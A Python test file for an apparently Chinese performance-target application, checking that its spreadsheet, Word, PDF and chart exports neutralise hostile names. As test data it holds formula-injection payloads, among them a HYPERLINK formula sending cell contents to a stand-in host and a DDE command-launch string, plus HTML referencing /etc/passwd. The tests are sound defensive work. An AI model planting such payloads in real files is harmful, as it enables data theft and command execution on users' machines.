"""Exported spreadsheets keep hostile names as text: no formula, nothing that breaks the file.

A name starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) would run as a
formula in Excel or WPS; a control character (Word's manual line break is a vertical tab) made
openpyxl and python-docx refuse the whole file; ``$…$`` in a name was read by matplotlib as
mathtext when the completion chart was drawn. Each export is read back here.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import docx
import openpyxl
import pdfplumber
import pytest

from jixiao import exporters
from jixiao.core.document import TargetDocument
from jixiao.exporters import pdf as pdf_exporter
from jixiao.exporters.charts import completion_chart, completion_series
from jixiao.exporters.targets_layout import build_layout
from jixiao.exporters.text import FORMULA_START, printable
from jixiao.ledgers import io as ledger_io
from jixiao.rounds.build import build_monitoring, build_self_evaluation
from jixiao.system.demo.rounds import clear_rounds
from jixiao.system.demo.services import load_demo
from jixiao.targets.models import Indicator, Project
from jixiao.units.models import Unit

HOSTILE = [
    r"完成率$\frac{a}{$",  # first: the first indicator is lit, so its bar is drawn
    '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
    "舆情\x0b处置\x01率",
]
# What each name becomes in a file: its line breaks as "\n", control characters gone.
WRITTEN = [printable(name) for name in HOSTILE]
PROJECT = "=cmd|' /C calc'!A0"


def sheet_cells(data: bytes) -> list[Any]:
    """Every cell with a value in every sheet of an xlsx file."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def assert_hostile_names_are_text(data: bytes, names: list[str]) -> None:
    cells = sheet_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for name in names:
        found = [c for c in cells if c.value == name]
        assert found, f"{name!r} is not in the workbook"
        for cell in found:
            assert cell.data_type == "s"
            if name.startswith(FORMULA_START):
                # Excel's hidden apostrophe: the cell stays text when someone edits it.
                assert cell.quotePrefix, f"{cell.coordinate} {name!r} has no quote prefix"
    # Every formula-like value in the whole workbook is typed text.
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert cell.data_type == "s", cell.coordinate


def test_printable_keeps_line_breaks_and_drops_what_xml_refuses() -> None:
    assert printable("a\r\nb\rc\x0bd\x0ce") == "a\nb\nc\nd\ne"
    assert printable("舆情\x00\x01\x1f处置\ufffe\ud800率\t") == "舆情处置率\t"


@pytest.fixture
def hostile_document(demo_document: TargetDocument) -> TargetDocument:
    """The seed-shaped document with a hostile project name and indicator names."""
    project = demo_document.projects[0]
    rows = list(project.indicators)
    extra = [dataclasses.replace(rows[0], level3=name) for name in HOSTILE[len(rows) :]]
    project.indicators = [
        dataclasses.replace(row, level3=name) for row, name in zip(rows, HOSTILE, strict=False)
    ] + extra
    project.name = PROJECT
    return demo_document


def test_targets_export_keeps_hostile_names_as_text(hostile_document: TargetDocument) -> None:
    data = exporters.export_targets(hostile_document, "xlsx")
    assert_hostile_names_are_text(data, WRITTEN)
    assert any(PROJECT in str(c.value) for c in sheet_cells(data))


def test_targets_word_and_pdf_exports_survive_control_characters(
    hostile_document: TargetDocument,
) -> None:
    word = docx.Document(io.BytesIO(exporters.export_targets(hostile_document, "docx")))
    texts = [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    assert "舆情\n处置率" in texts
    assert WRITTEN[0] in texts
    with pdfplumber.open(io.BytesIO(exporters.export_targets(hostile_document, "pdf"))) as pdf:
        text = "".join(page.extract_text() or "" for page in pdf.pages)
    assert "+1+2" in text and "@SUM(A1:A9)" in text


def test_pdf_export_escapes_markup_and_fetches_nothing(
    hostile_document: TargetDocument, monkeypatch: pytest.MonkeyPatch
) -> None:
    from weasyprint.urls import URLFetcher

    markup = '<img src="file:///etc/hostname"><link rel="attachment" href="file:///etc/passwd">'
    hostile_document.projects[1].name = markup
    html = pdf_exporter.to_html(build_layout(hostile_document))
    assert markup not in html
    assert "&lt;img src=&quot;file:///etc/hostname&quot;&gt;" in html
    # Were markup ever to slip through, WeasyPrint may fetch only data: URLs.
    fetched: list[str] = []
    original = URLFetcher.fetch

    def fetch(self: Any, url: str, headers: Any = None) -> Any:
        fetched.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(URLFetcher, "fetch", fetch)
    monkeypatch.setattr(
        pdf_exporter, "to_html", lambda layout: html.replace("<body>", f"<body>{markup}")
    )
    data = exporters.export_targets(hostile_document, "pdf")
    assert data.startswith(b"%PDF")
    assert "file:///etc/hostname" in fetched  # asked for, and refused:
    assert b"/EmbeddedFile" not in data


@pytest.fixture
def hostile_reports(db: None) -> tuple[Any, Any]:
    """The demo computed live, with hostile names on the first project and its indicators."""
    load_demo()
    unit = Unit.objects.get(code="224001")
    clear_rounds(unit)
    indicators = list(
        Indicator.objects.filter(project__unit=unit, project__code="13032221C2GKIBLPDEWRQ")
    )
    assert len(indicators) >= len(HOSTILE)
    # Test set-up, not an application write: the names a hostile document would import.
    for indicator, name in zip(indicators, HOSTILE, strict=False):
        Indicator.objects.filter(pk=indicator.pk).update(level3=name)
    Project.objects.filter(pk=indicators[0].project_id).update(name=PROJECT)
    return (
        build_monitoring(unit, 2021, dt.date(2021, 9, 30)),
        build_self_evaluation(unit, 2021),
    )


@pytest.mark.django_db
def test_monitoring_and_self_evaluation_exports_keep_hostile_names_as_text(
    hostile_reports: tuple[Any, Any],
) -> None:
    monitoring, evaluation = hostile_reports
    # Both files draw the completion chart from these names too ("$…$" is not mathtext).
    for report in hostile_reports:
        assert HOSTILE[0] in completion_series(report)["labels"][:1][0]
    assert_hostile_names_are_text(exporters.export_monitoring(monitoring, "xlsx"), WRITTEN)
    assert_hostile_names_are_text(exporters.export_selfeval(evaluation, "xlsx"), WRITTEN)
    for export, report in (
        (exporters.export_monitoring, monitoring),
        (exporters.export_selfeval, evaluation),
    ):
        word = docx.Document(io.BytesIO(export(report, "docx")))
        texts = {c.text for t in word.tables for row in t.rows for c in row.cells}
        assert "舆情\n处置率" in texts


@pytest.mark.parametrize("fmt", ["png", "svg"])
def test_completion_chart_draws_dollar_signs_as_text(fmt: str) -> None:
    series = {
        "labels": [HOSTILE[0], r"a$\bad$b", "舆情\x0b处置\x01率"],
        "values": [Decimal(50), Decimal(100), Decimal(0)],
        "lights": ["yellow", "green", "red"],
    }
    assert completion_chart(series, fmt)


def test_ledger_export_keeps_formula_like_values_as_text() -> None:
    rows = [[name, 3, dt.date(2021, 6, 30)] for name in HOSTILE]
    data = ledger_io.write_table(["标题", "数量", "日期"], rows, "xlsx")
    assert_hostile_names_are_text(data, WRITTEN)
    csv = ledger_io.write_table(["标题", "数量", "日期"], rows, "csv").decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv and "'+1+2" in csv and "'@SUM" in csv
